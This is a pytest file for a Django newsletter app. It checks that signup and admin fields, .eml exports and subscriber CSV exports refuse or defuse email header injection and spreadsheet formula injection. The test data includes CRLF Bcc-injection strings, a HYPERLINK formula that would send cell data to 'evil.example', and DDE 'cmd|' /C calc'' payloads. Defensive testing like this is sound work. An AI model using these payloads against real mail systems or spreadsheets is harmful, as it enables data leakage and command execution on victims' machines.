"""No text from readers or staff reaches a spreadsheet formula or an email header of its own."""

import csv
import email
import email.policy
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from newsletter import export
from newsletter.export import ExportError
from newsletter.models import IssueItem, Subscription
from tests.factories import (
    ArticleFactory,
    ImageFactory,
    IssueFactory,
    NewsletterFactory,
    SubscriptionFactory,
)
from tests.forms import form_data, soup_of

pytestmark = pytest.mark.django_db

SIGNUP = reverse("newsletter:signup")
# What a confirmation email carries, and nothing more.
CONFIRMATION_HEADERS = {
    "content-type",
    "mime-version",
    "subject",
    "from",
    "to",
    "date",
    "message-id",
}
EML_HEADERS = {
    "subject",
    "from",
    "to",
    "date",
    "message-id",
    "list-id",
    "list-unsubscribe",
    "list-unsubscribe-post",
    "mime-version",
    "content-type",
}


@pytest.fixture(autouse=True)
def site(settings):
    settings.SITE_URL = "https://review.example.org"
    settings.DEFAULT_FROM_EMAIL = "The Review <newsletter@review.example.org>"


@pytest.fixture
def newsletter():
    return NewsletterFactory()


@pytest.fixture
def signup(django_capture_on_commit_callbacks):
    def post(email_address, **extra):
        with django_capture_on_commit_callbacks(execute=True):
            return Client().post(SIGNUP, {"email": email_address, **extra})

    return post


def parsed(message_bytes):
    return email.message_from_bytes(message_bytes, policy=email.policy.default)


def header_names(message):
    return {name.lower() for name in message}


def recipients(message):
    return [
        address.addr_spec
        for name in ("To", "Cc", "Bcc")
        for header in message.get_all(name) or []
        for address in header.addresses
    ]


# The signup form


@pytest.mark.parametrize(
    "address",
    [
        "a@example.com\r\nBcc: victim@example.net",
        "a@example.com\nSubject: hi",
        "a@example.com\rBcc: victim@example.net",
        "a@example.com, victim@example.net",
        "A <a@example.com>",
        "=?utf-8?q?a=0D=0ABcc=3A_victim=40example.net?=@example.com",
        "a@=?utf-8?q?example.com=0D=0ABcc=3A_victim=40example.net?=",
        "x" * 245 + "@example.org",
        "читатель@example.org",
        "a@exam\u2028ple.org",
        # A NUL never reaches the form: RefuseNulMiddleware answers 400 (test_nul_bytes.py).
    ],
)
def test_the_signup_form_refuses_an_address_that_could_write_a_header(
    newsletter, signup, mailoutbox, address
):
    response = signup(address)
    assert response.status_code == 400
    errors = [p.get_text(strip=True) for p in soup_of(response).select("p.error")]
    assert errors
    assert set(errors) <= {
        "Enter a valid email address.",
        "Ensure this value has at most 254 characters (it has 257).",
    }
    assert not Subscription.objects.exists()
    assert mailoutbox == []


def test_a_confirmation_email_has_exactly_our_headers_and_one_recipient(
    newsletter, signup, mailoutbox
):
    assert signup("leser@bücher.example").status_code == 200
    [sent] = mailoutbox
    message = parsed(sent.message().as_bytes())
    assert header_names(message) == CONFIRMATION_HEADERS
    assert recipients(message) == ["leser@xn--bcher-kva.example"]
    assert message["Subject"] == "Confirm your subscription to The Weekly Round-up"
    assert Subscription.objects.get().email == "leser@bücher.example"


def test_a_list_name_with_a_line_break_cannot_add_a_header_to_the_confirmation(
    newsletter, signup, mailoutbox
):
    # Stored behind the admin form's back (the shell, an import): the mail still goes, alone.
    newsletter.name = "Weekly\r\nBcc: victim@example.net"
    newsletter.save()
    signup("reader@example.org")
    [sent] = mailoutbox
    message = parsed(sent.message().as_bytes())
    assert header_names(message) == CONFIRMATION_HEADERS
    assert recipients(message) == ["reader@example.org"]
    assert message["Subject"] == "Confirm your subscription to Weekly Bcc: victim@example.net"


# The admin forms whose text becomes a header


def admin_errors(response, field):
    row = soup_of(response).select_one(f".form-row.field-{field}")
    assert row is not None, f"no row for {field}"
    return [item.get_text(strip=True) for item in row.select(".errorlist li")]


HOSTILE_HEADER_TEXT = [
    "Round-up\r\nBcc: victim@example.net",
    "Round-up\nBcc: victim@example.net",
    "Round-up =?utf-8?q?=0D=0ABcc=3A_victim=40example.net?=",
    "Round-up\x0bBcc: victim@example.net",
    "Round-up\u2028Bcc: victim@example.net",
]


@pytest.mark.parametrize("value", HOSTILE_HEADER_TEXT)
@pytest.mark.parametrize("field", ["subject", "preheader"])
def test_the_issue_form_refuses_header_breaking_text_with_a_form_error(
    admin_client, newsletter, field, value
):
    issue = IssueFactory(newsletter=newsletter, subject="Before", preheader="Before")
    url = reverse("admin:newsletter_issue_change", args=[issue.pk])
    data = form_data(admin_client.get(url), "issue_form")
    data[field] = value
    response = admin_client.post(url, data)
    assert response.status_code == 200
    assert admin_errors(response, field)
    issue.refresh_from_db()
    assert (issue.subject, issue.preheader) == ("Before", "Before")


@pytest.mark.parametrize("value", HOSTILE_HEADER_TEXT)
@pytest.mark.parametrize("field", ["name", "from_name"])
def test_the_newsletter_form_refuses_header_breaking_text_with_a_form_error(
    admin_client, newsletter, field, value
):
    url = reverse("admin:newsletter_newsletter_change", args=[newsletter.pk])
    data = form_data(admin_client.get(url), "newsletter_form")
    data[field] = value
    response = admin_client.post(url, data)
    assert response.status_code == 200
    assert admin_errors(response, field)
    newsletter.refresh_from_db()
    assert newsletter.name == "The Weekly Round-up"


def test_ordinary_subjects_with_punctuation_and_scripts_are_kept(admin_client, newsletter):
    issue = IssueFactory(newsletter=newsletter)
    url = reverse("admin:newsletter_issue_change", args=[issue.pk])
    data = form_data(admin_client.get(url), "issue_form")
    data["subject"] = "Is peace = quiet? Gaza, غزة, עזה — and 🕊"
    response = admin_client.post(url, data)
    assert response.status_code == 302
    issue.refresh_from_db()
    assert issue.subject == "Is peace = quiet? Gaza, غزة, עזה — and 🕊"


# The .eml export


def exportable_issue(newsletter, **fields):
    issue = IssueFactory(newsletter=newsletter, number=3, status="ready", **fields)
    IssueItem.objects.create(
        issue=issue, article=ArticleFactory(top_image=ImageFactory()), position=0
    )
    return issue


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("subject", "Round-up\r\nBcc: victim@example.net"),
        ("subject", "Round-up\nContent-Type: text/html\n\n<script>x</script>"),
        ("from_name", "Desk\r\nBcc: victim@example.net"),
        ("name", "Weekly\r\nReply-To: thief@example.net"),
        ("subject", "Ünïcode subject\r\nBcc: victim@example.net " + "long " * 15),
    ],
)
def test_an_eml_export_has_exactly_our_headers_whatever_staff_typed(newsletter, field, value):
    if field == "subject":
        issue = exportable_issue(newsletter, subject=value)
    else:
        setattr(newsletter, field, value)
        newsletter.save()
        issue = exportable_issue(newsletter)
    message = parsed(export.build_eml(issue, recipient="reader@example.org"))
    assert header_names(message) == EML_HEADERS
    assert recipients(message) == ["reader@example.org"]
    for name in message:
        assert "\n" not in str(message[name]) and "\r" not in str(message[name])
    assert [part.get_content_type() for part in message.iter_parts()] == [
        "text/plain",
        "text/html",
    ]


@pytest.mark.parametrize("field", ["subject", "from_name", "name"])
def test_an_encoded_word_typed_into_header_text_is_refused_by_the_export(newsletter, field):
    trick = "Hi =?utf-8?q?=0D=0ABcc=3A_victim=40example.net?="
    if field == "subject":
        issue = exportable_issue(newsletter, subject=trick)
    else:
        setattr(newsletter, field, trick)
        newsletter.save()
        issue = exportable_issue(newsletter)
    with pytest.raises(ExportError, match="=\\?…\\?="):
        export.build_eml(issue, recipient="reader@example.org")


@pytest.mark.parametrize(
    "recipient",
    [
        "reader@example.org\r\nBcc: victim@example.net",
        "reader@example.org, victim@example.net",
        "Reader <reader@example.org>",
    ],
)
def test_an_eml_recipient_that_is_not_one_address_is_refused(newsletter, recipient):
    with pytest.raises(ExportError, match="is not an email address"):
        export.build_eml(exportable_issue(newsletter), recipient=recipient)


# The subscriber CSV


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]


@pytest.fixture
def exporter_client(client, django_user_model):
    user = django_user_model.objects.create_user(username="exporter", is_staff=True)
    user.user_permissions.add(
        Permission.objects.get(content_type__app_label="newsletter", codename="export_subscribers")
    )
    client.force_login(user)
    return client


def csv_of(client, newsletter):
    response = client.get(reverse("admin:newsletter_newsletter_subscribers", args=[newsletter.pk]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_every_formula_in_a_csv_cell_is_defused_with_a_leading_quote(exporter_client, newsletter):
    for n, formula in enumerate(FORMULAS):
        SubscriptionFactory(newsletter=newsletter, email=f"r{n}@example.org", source_url=formula)
    rows = csv_of(exporter_client, newsletter)
    assert [row["source page"] for row in rows] == ["'" + formula for formula in FORMULAS]


def test_ordinary_values_are_left_exactly_as_they_are(exporter_client, newsletter):
    kept = [
        ("o'brien+news@example.org", "/middle-east/oil-and-water/"),
        ("leser@bücher.example", "/tag/العراق/"),
        ("a-b@example.org", "/search/?q=a-b&page=2"),
        ('quote"d@example.org', ""),
    ]
    for address, source in kept:
        SubscriptionFactory(newsletter=newsletter, email=address, source_url=source)
    rows = csv_of(exporter_client, newsletter)
    assert [(row["email"], row["source page"]) for row in rows] == kept


def test_a_formula_typed_into_the_signup_form_reaches_the_csv_defused(
    exporter_client, newsletter, signup
):
    signup("reader@example.org", source="/=cmd|' /C calc'!A0")
    SubscriptionFactory(newsletter=newsletter, email="=1+1@example.org")
    rows = csv_of(exporter_client, newsletter)
    assert [(row["email"], row["source page"]) for row in rows] == [
        ("reader@example.org", "/=cmd|' /C calc'!A0"),
        ("'=1+1@example.org", "/"),
    ]
